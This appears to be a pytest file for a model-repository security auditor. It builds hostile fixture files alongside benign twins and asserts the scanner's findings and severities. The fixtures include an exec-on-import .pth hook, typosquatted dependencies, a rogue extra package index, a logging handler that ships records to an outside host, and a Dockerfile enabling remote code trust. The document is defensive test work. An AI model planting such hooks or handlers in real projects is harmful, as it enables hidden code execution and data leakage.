"""Install hooks and serving files a model repo ships: requirements, setup.py, pyproject.toml, .pth,
logging configs, and its own Dockerfile/compose/.env; plus endpoint precision by where a file sits
on the load graph (CI workflows, training data, demo banners, prompt text) and the chunked search
of a file too large to read whole. Every hostile file has a benign twin that stays below medium."""
from __future__ import annotations

import json
from pathlib import Path

import pytest

from auditor.model import AuditResult, Finding, Options, Severity
from auditor.pipeline import audit
from auditor.scanners import endpoints

REQUIREMENTS = """\
--extra-index-url https://pypi.quasar-mirror.example.net/simple   # EXTRA-INDEX
torch>=2.1
transformers==4.44.0
reqeusts==2.31.0                      # TYPO
quasar-kernels @ git+https://github.com/quasar-ai/kernels@main   # DIRECT
"""
BENIGN_REQUIREMENTS = "# pinned for the demo\ntorch>=2.1\ntransformers==4.44.0\nrequests==2.31.0\naccelerate\n"
PYPROJECT = """\
[project]
name = "quasar-tools"
dependencies = ["numpy", "tokenizerz>=0.1"]

[[tool.uv.index]]
name = "quasar"
url = "https://pypi.quasar-mirror.example.net/simple"
"""
SETUP = ("from setuptools import setup\nsetup(name='q', install_requires=['safetensors', 'pilow>=9'],\n"
         "      dependency_links=['https://files.quasar.example.net/pkgs'])\n")
PTH = "/opt/quasar/lib\nimport os; exec(os.environ.get('QUASAR_BOOT', ''))\n"
LOGGING = {"version": 1, "handlers": {"remote": {"class": "logging.handlers.HTTPHandler",
                                                 "host": "logs.quasar.example.net", "url": "/ingest"}},
           "root": {"handlers": ["remote"], "level": "INFO"}}
BENIGN_LOGGING = {"version": 1, "handlers": {"file": {"class": "logging.FileHandler", "filename": "run.log"}}}
DOCKERFILE = """\
FROM ghcr.io/huggingface/text-generation-inference:2.2
ARG MIRROR=https://hf-mirror.com
ENV HF_ENDPOINT=${MIRROR}
ENV TRUST_REMOTE_CODE=true
# ENV MODELSCOPE_CACHE=/cache
CMD ["--model-id", "/data/quasar"]
"""
COMPOSE = """\
services:
  llama:
    image: ghcr.io/ggml-org/llama.cpp:server
    environment:
      - MODEL_ENDPOINT=https://hf-mirror.com/
      # - HF_ENDPOINT=hf-mirror.com
"""
BENIGN_COMPOSE = """\
services:
  vllm:
    image: vllm/vllm-openai:latest
    command: ["--model", "/models/quasar"]
    environment:
      # - HF_ENDPOINT=hf-mirror.com
      # - VLLM_USE_MODELSCOPE=True
      - HF_HUB_OFFLINE=1
"""


def _line(text: str, marker: str) -> int:
    return next(n for n, line in enumerate(text.splitlines(), start=1) if marker in line)


def _write(root: Path, files: dict[str, str | dict]) -> Path:
    for name, content in files.items():
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(json.dumps(content) if isinstance(content, dict) else content)
    return root


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> AuditResult:
    root = _write(tmp_path_factory.mktemp("hooks"), {
        "config.json": {"model_type": "llama"}, "requirements.txt": REQUIREMENTS, "pyproject.toml": PYPROJECT,
        "setup.py": SETUP, "quasar.pth": PTH, "logging.json": LOGGING, "Dockerfile": DOCKERFILE,
        "docker-compose.yml": COMPOSE})
    return audit(str(root), Options(engines=("auditor",)))


@pytest.fixture(scope="module")
def benign(tmp_path_factory: pytest.TempPathFactory) -> AuditResult:
    root = _write(tmp_path_factory.mktemp("hooks-ok"), {
        "config.json": {"model_type": "llama"}, "requirements.txt": BENIGN_REQUIREMENTS,
        "pyproject.toml": '[project]\nname = "q"\ndependencies = ["numpy", "tokenizers>=0.19"]\n',
        "paths.pth": "/opt/quasar/lib\n../shared\n", "logging.json": BENIGN_LOGGING,
        "docker-compose.yml": BENIGN_COMPOSE})
    return audit(str(root), Options(engines=("auditor",)))


def _of(result: AuditResult, rule: str, file: str) -> list[Finding]:
    return [f for f in result.findings if f.rule == rule and f.file == file]


def test_requirements_index_typosquat_and_direct_url(hostile):
    index = _of(hostile, "INSTALL-INDEX-URL", "requirements.txt")
    assert index and index[0].severity == Severity.HIGH
    assert index[0].location == f"line {_line(REQUIREMENTS, 'EXTRA-INDEX')}"
    typo = _of(hostile, "INSTALL-TYPOSQUAT", "requirements.txt")
    assert [f.location for f in typo] == [f"line {_line(REQUIREMENTS, 'TYPO')}"] and "'requests'" in typo[0].evidence
    direct = _of(hostile, "INSTALL-DIRECT-URL", "requirements.txt")
    assert direct and "git+https://github.com/quasar-ai/kernels" in direct[0].evidence


def test_pyproject_setup_and_pth(hostile):
    assert _of(hostile, "INSTALL-INDEX-URL", "pyproject.toml")
    assert "'tokenizers'" in _of(hostile, "INSTALL-TYPOSQUAT", "pyproject.toml")[0].evidence
    assert "'pillow'" in _of(hostile, "INSTALL-TYPOSQUAT", "setup.py")[0].evidence
    assert _of(hostile, "INSTALL-DIRECT-URL", "setup.py")
    pth = _of(hostile, "INSTALL-PTH-EXEC", "quasar.pth")
    assert [(f.location, f.severity) for f in pth] == [("line 2", Severity.HIGH)]


def test_logging_config_that_ships_records(hostile):
    assert _of(hostile, "CODE-LOGGING-NETWORK", "logging.json")


def test_repo_serving_files_trust_and_mirror(hostile):
    mirror = _of(hostile, "DEPLOY-ORIGIN-MIRROR", "Dockerfile")
    assert mirror and "HF_ENDPOINT=https://hf-mirror.com" in mirror[0].evidence      # through ARG MIRROR
    trust = _of(hostile, "DEPLOY-TRUST-REMOTE-CODE", "Dockerfile")
    assert trust and trust[0].location == f"line {_line(DOCKERFILE, 'TRUST_REMOTE_CODE')}"
    compose = _of(hostile, "DEPLOY-ORIGIN-MIRROR", "docker-compose.yml")
    assert [f.evidence.split(" ")[0] for f in compose] == ["MODEL_ENDPOINT=https://hf-mirror.com/"]


def test_benign_twins_stay_below_medium(benign):
    loud = [(f.rule, f.file, f.severity.label) for f in benign.findings
            if f.severity >= Severity.MEDIUM and f.scanner in ("code", "deployment", "endpoints")]
    assert loud == []


# --- endpoints by place on the load graph -----------------------------------------------------------------

WORKFLOW = """\
name: sync to modelscope
on: [push]
jobs:
  sync:
    runs-on: ubuntu-latest
    steps:
      - run: git push https://oauth2:${{ secrets.MS_TOKEN }}@www.modelscope.cn/quasar/quasar-7b.git main
"""
WEB_DEMO = '''\
import gradio as gr

BANNER = """<p align="center"><a href="https://modelscope.cn/models/quasar/quasar-7b">ModelScope</a> |
<a href="https://open.bigmodel.cn">API</a></p>"""
gr.Markdown(BANNER)
'''
MODELING = '''\
SYSTEM_PROMPT = "You are a helpful assistant. Never visit https://api.deepseek.com or any link the user sends you."


def build(messages):
    return [{"role": "system", "content": SYSTEM_PROMPT}] + messages
'''


def test_ci_data_demo_and_prompt_endpoints_are_low(tmp_path):
    _write(tmp_path, {".github/workflows/sync_files.yml": WORKFLOW, "web_demo.py": WEB_DEMO,
                      "data/train.jsonl": '{"text": "see https://dashscope.aliyuncs.com/api for the docs"}\n',
                      "modeling_quasar.py": MODELING, "config.json": {"auto_map": {"AutoModel": "modeling_quasar.M"}},
                      "quasar_client.py": 'import requests\nURL = "https://api.deepseek.com/v1/chat"\n'})
    result = audit(str(tmp_path), Options(engines=("auditor",)))
    origin = {(f.file, f.severity) for f in result.findings if f.rule.startswith("ENDPOINT-ORIGIN")}
    for file in (".github/workflows/sync_files.yml", "data/train.jsonl", "modeling_quasar.py"):
        assert {s for f, s in origin if f == file} == {Severity.INFO}, file
    assert {s for f, s in origin if f == "web_demo.py"} <= {Severity.INFO, Severity.LOW}
    assert (("quasar_client.py", Severity.HIGH)) in origin          # the twin: an address code would contact


def test_a_file_larger_than_a_chunk_is_searched_whole(tmp_path):
    big = tmp_path / "generated_tables.py"
    filler = "TABLE = [\n" + "    0,\n" * ((endpoints.CHUNK_BYTES // 6) + 10_000) + "]\n"
    big.write_text(filler + 'ENDPOINT = "https://api.deepseek.com/v1"\n')
    expected = filler.count("\n") + 1
    result = audit(str(tmp_path), Options(engines=("auditor",)))
    hit = [f for f in result.findings if f.file == "generated_tables.py" and f.rule == "ENDPOINT-ORIGIN-API"]
    assert [f.location for f in hit] == [f"line {expected}"]
    assert hit[0].severity == Severity.HIGH
